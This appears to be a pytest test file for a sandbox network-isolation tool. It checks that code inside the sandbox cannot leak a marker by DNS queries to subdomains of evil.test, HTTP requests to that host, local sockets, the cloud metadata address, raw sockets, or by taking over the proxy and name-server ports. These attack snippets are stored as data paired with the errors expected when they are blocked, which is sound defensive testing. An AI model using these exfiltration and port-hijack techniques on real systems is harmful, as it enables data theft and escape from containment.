"""What is not allowed has no other way out: no packet, no name, no word in a question leaves."""

from __future__ import annotations

import os
import socket
import threading
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.enforcement.network.attacks.conftest import MakeTrial, Trial
    from tests.enforcement.network.conftest import Net, Open

    from stockade.sandbox.blocking import BlockingSandbox

NAMES: dict[str, tuple[str, str]] = {
    "a word below an allowed name": ('end = ask(f"{mark}.web.test")', "code 3, 0 answers"),
    "a long word below an allowed name": ("end = ask(f\"{mark}{'x' * 40}.{'y' * 60}.web.test\")", "code 3, 0 answers"),
    "a word in another name": ('end = ask(f"{mark}.evil.test")', "code 3, 0 answers"),
    "a word in a name that is almost allowed": ('end = ask(f"{mark}web.test")', "code 3, 0 answers"),
    "text": ('end = ask(f"{mark}.evil.test", kind=16)', "code 3, 0 answers"),
    "mail": ('end = ask(f"{mark}.evil.test", kind=15)', "code 3, 0 answers"),
    "any": ('end = ask(f"{mark}.evil.test", kind=255)', "code 3, 0 answers"),
    "by TCP": ('end = ask(f"{mark}.evil.test", tcp=True)', "code 3, 0 answers"),
    "a server far away": ('end = ask(f"{mark}.evil.test", server=facts["far"])', "code 3, 0 answers"),
    "a server far away by TCP": ('end = ask(f"{mark}.evil.test", server=facts["far"], tcp=True)', "code 3, 0 answers"),
    "a server far away by IPv6": ('end = ask(f"{mark}.evil.test", server=facts["far6"])', "code 3, 0 answers"),
    "letters of both cases": ('end = ask(f"{mark}.EvIl.TeSt")', "code 3, 0 answers"),
}
WAYS: dict[str, tuple[str, str]] = {
    "a service of the host by TCP": (
        "connect('127.0.0.1', facts['hidden']).sendall(f'GET /{mark} HTTP/1.1\\r\\n\\r\\n'.encode()); time.sleep(0.1)",
        "ECONNREFUSED",
    ),
    "a service of the host by UDP": (
        """
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.connect(("127.0.0.1", facts["udp"]))
stream.send(mark.encode())
time.sleep(0.1)
stream.send(mark.encode())
""",
        "ECONNREFUSED",
    ),
    "the host's own address": (
        """
stream = connect(facts["own"], facts["own_port"])
stream.sendall(f"GET /{mark} HTTP/1.1\\r\\n\\r\\n".encode())
time.sleep(0.1)
stream.recv(1)
""",
        "ECONNRESET",
    ),
    "an abstract socket": (
        """
stream = socket.socket(socket.AF_UNIX)
stream.connect("\\0" + facts["abstract"])
stream.sendall(mark.encode())
time.sleep(0.1)
""",
        "ECONNREFUSED",
    ),
    "a name in the clear": (
        "connect('evil.test', facts['http']).sendall(f'GET /{mark} HTTP/1.1\\r\\n\\r\\n'.encode()); time.sleep(0.1)",
        "gaierror: [Errno -2] Name or service not known",
    ),
    "an empty environment": (
        """
import subprocess
words = f"import urllib.request as u; u.urlopen('http://evil.test:{facts['http']}/{mark}', timeout=5)"
done = subprocess.run([sys.executable, "-I", "-c", words], env={}, capture_output=True)
end = f"exit {done.returncode}"
""",
        "exit 1",
    ),
}


@pytest.fixture(scope="module", params=["nothing", "something"])
def allowed(request: pytest.FixtureRequest, net: Net, opened: Open) -> BlockingSandbox:
    """A sandbox that may reach nothing, and one that may reach something else."""
    return opened(*(() if request.param == "nothing" else net.allow("web.test")))


@pytest.fixture(scope="module")
def names(net: Net, allowed: BlockingSandbox, make_trial: MakeTrial) -> Trial:
    near = ("127.0.0.1", net.names.port)
    return make_trial(NAMES, allowed, far=(near, ("8.8.8.8", 53)), far6=(near, ("2001:4860:4860::8888", 53)))


@pytest.fixture(scope="module")
def abstract(net: Net) -> Iterator[str]:
    """A service of the host that has a name and no file."""
    name = f"stockade-{os.getpid()}-{net.mark()}"
    service = socket.socket(socket.AF_UNIX)
    service.bind(f"\0{name}")
    service.listen(5)

    def serve() -> None:
        with suppress(OSError):
            while True:
                with service.accept()[0] as client:
                    net.journal.write("abstract", client.recv(999))

    threading.Thread(target=serve, daemon=True).start()
    yield name
    service.shutdown(socket.SHUT_RDWR)
    service.close()


@pytest.fixture(scope="module")
def ways(net: Net, allowed: BlockingSandbox, abstract: str, make_trial: MakeTrial) -> Iterator[Trial]:
    own = _own_address()
    web = net.serve_at(own, 0)
    try:
        yield make_trial(WAYS, allowed, own=own, own_port=web.port, abstract=abstract)
    finally:
        web.close()


def _own_address() -> str:
    """Return an address of this host; one of loopback would be the session's own inside, and refuse."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.3"
        return str(probe.getsockname()[0])


@pytest.mark.parametrize("name", NAMES)
def test_no_word_leaves_in_a_question_for_a_name(names: Trial, name: str) -> None:
    names.judge(name, NAMES[name][1])


@pytest.mark.parametrize("name", WAYS)
def test_there_is_no_way_beside_the_proxies(ways: Trial, name: str) -> None:
    alone = name == "the host's own address" and _own_address().startswith("127.")
    ways.judge(name, "ECONNREFUSED" if alone else WAYS[name][1])


#: What would leave this machine without walls, and so has no control; with some host allowed, it stays closed.
AWAY = {
    "TCP to an address": ("connect('192.0.2.1', 443).recv(1)", "ECONNRESET"),
    "TCP to an address, on IPv6": ("connect('2001:db8::1', 443).recv(1)", "ECONNRESET"),
    "TCP to the metadata address": ("connect('169.254.169.254', 80).recv(1)", "ECONNRESET"),
    "TCP to an address that stands for no name": ("connect('198.18.200.200', 443).recv(1)", "ECONNRESET"),
    "UDP": (
        """
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.connect(("192.0.2.1", 443))
stream.send(b"x")
time.sleep(0.1)
stream.send(b"x")
""",
        "ECONNREFUSED",
    ),
    "UDP to an allowed host": (
        """
stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stream.connect((socket.gethostbyname("web.test"), facts["http"]))
stream.send(b"x")
time.sleep(0.1)
stream.send(b"x")
""",
        "ECONNREFUSED",
    ),
    "ping": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)", "EPROTONOSUPPORT"),
    "raw": ("socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)", "EPERM"),
    "packets": ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)", "EAFNOSUPPORT"),
    "vsock": ("socket.socket(40, socket.SOCK_STREAM)", "EAFNOSUPPORT"),
    "SCTP": ("socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", "EPROTONOSUPPORT"),
    "netlink for firewalls": ("socket.socket(16, socket.SOCK_RAW, 12)", "EPROTONOSUPPORT"),
}
#: Other commands of the session would speak to whoever took one of these places.
TAKEN = {
    "the HTTP proxy": ("socket.create_server(('127.0.0.1', 3128))", "EADDRINUSE"),
    "the HTTP proxy, at every address": ("socket.create_server(('', 3128))", "EADDRINUSE"),
    "the HTTP proxy, as one of several": ("socket.create_server(('127.0.0.1', 3128), reuse_port=True)", "EADDRINUSE"),
    "the SOCKS proxy": ("socket.create_server(('127.0.0.1', 1080))", "EADDRINUSE"),
    "the way of all others": ("socket.create_server(('127.0.0.1', 3129))", "EADDRINUSE"),
    "the way of all others, on IPv6": (
        "s = socket.socket(socket.AF_INET6); s.setsockopt(1, 15, 1); s.bind(('::1', 3129)); s.listen()",
        "EADDRINUSE",
    ),
    "the name server": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 2, 1); s.bind(('127.0.0.1', 53))",
        "EADDRINUSE",
    ),
    "the name server by TCP": ("socket.create_server(('127.0.0.1', 53))", "EADDRINUSE"),
}


@pytest.fixture(scope="module")
def closed(net: Net, opened: Open, make_trial: MakeTrial) -> Trial:
    return make_trial(AWAY | TAKEN, opened(*net.allow("web.test")), inside_only=True)


@pytest.mark.parametrize("name", AWAY)
def test_with_a_host_allowed_all_else_stays_closed(closed: Trial, name: str) -> None:
    assert closed.inside[name].end == AWAY[name][1]


@pytest.mark.parametrize("name", TAKEN)
def test_no_command_takes_the_place_of_a_proxy(closed: Trial, name: str) -> None:
    assert closed.inside[name].end == TAKEN[name][1]


def test_allowed_names_are_answered_with_addresses_that_lead_nowhere_else(net: Net, opened: Open) -> None:
    sandbox = opened(*net.allow("web.test"))
    assert sandbox.run("getent ahostsv4 web.test | cut -d. -f1,2 | sort -u").output == "198.18\n"
    before = len(net.journal)
    assert sandbox.run("getent hosts web.test other.test evil.test").exit_code == 2
    assert net.journal.since(before) == [], "our own names are answered without asking anybody"
